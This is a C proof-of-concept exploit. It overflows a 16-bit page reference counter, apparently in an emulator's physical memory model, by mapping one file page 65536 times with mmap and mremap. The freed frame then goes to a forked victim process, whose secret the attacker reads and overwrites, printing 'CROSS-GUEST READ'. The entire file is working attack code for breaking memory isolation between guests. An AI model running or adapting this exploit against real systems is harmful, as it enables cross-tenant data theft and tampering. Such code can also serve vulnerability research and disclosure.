/* Attack: physmem.refs is a Uint16Array. Map the same page-cache frame
 * (page 0 of a file, private writable mapping) 65536 times (mmap + mremap
 * away, so the host holds no mapping of it and no VMA merges), then munmap
 * one: the 16-bit count wraps to 0 and the frame goes back to the free pool
 * while 65535 of our page-table entries still point at it. A victim
 * process (forked earlier) gets the frame for its own anonymous page; we
 * touch one of our copies and read/write the victim's page. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/wait.h>

#define N 65536
int main(int argc, char **argv) {
  const char *file = argc > 1 ? argv[1] : "/bin/busybox";
  int go[2], back[2];
  if (pipe(go) || pipe(back)) return 1;
  pid_t c = fork();
  if (c == 0) {
    char b;
    if (read(go[0], &b, 1) != 1) _exit(2);
    char *v = mmap(0, 4096 * 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    strcpy(v, "VICTIM-SECRET-0123456789");
    /* and another candidate page nearby */
    for (int i = 1; i < 16; i++) strcpy(v + 4096 * i, "VICTIM-SECRET-0123456789");
    write(back[1], "x", 1);
    if (read(go[0], &b, 1) != 1) _exit(3);
    int hit = 0;
    for (int i = 0; i < 16; i++) if (strncmp(v + 4096 * i, "VICTIM", 6)) { printf("victim: page %d now reads \"%.24s\"\n", i, v + 4096 * i); hit = 1; }
    if (!hit) printf("victim: memory intact\n");
    fflush(stdout);
    _exit(0);
  }
  int fd = open(file, O_RDONLY);
  if (fd < 0) { perror("open"); return 1; }
  char *A = (char *)0x100000000000UL, *B = (char *)0x200000000000UL;
  for (long i = 0; i < N; i++) {
    void *p = mmap(A, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_FIXED | MAP_POPULATE, fd, 0);
    if (p != A) { printf("mmap %ld: %p\n", i, p); return 1; }
    void *q = mremap(A, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, B + i * 4096);
    if (q != B + i * 4096) { printf("mremap %ld: %p\n", i, q); return 1; }
    if (i % 8192 == 0) { printf("attacker: %ld mappings\n", i); fflush(stdout); }
  }
  munmap(B, 4096); /* the 65537th reference dropped: the count reaches 0 */
  printf("attacker: dropped one reference\n"); fflush(stdout);
  write(go[1], "x", 1);
  char b;
  read(back[0], &b, 1);
  char *mine = B + 4096;
  printf("attacker reads its file mapping: \"%.24s\"\n", mine);
  if (!strncmp(mine, "VICTIM", 6)) {
    printf("attacker: CROSS-GUEST READ\n");
    strcpy(mine, "PWNED-BY-ATTACKER-------");
  }
  fflush(stdout);
  write(go[1], "x", 1);
  waitpid(c, 0, 0);
  return 0;
}
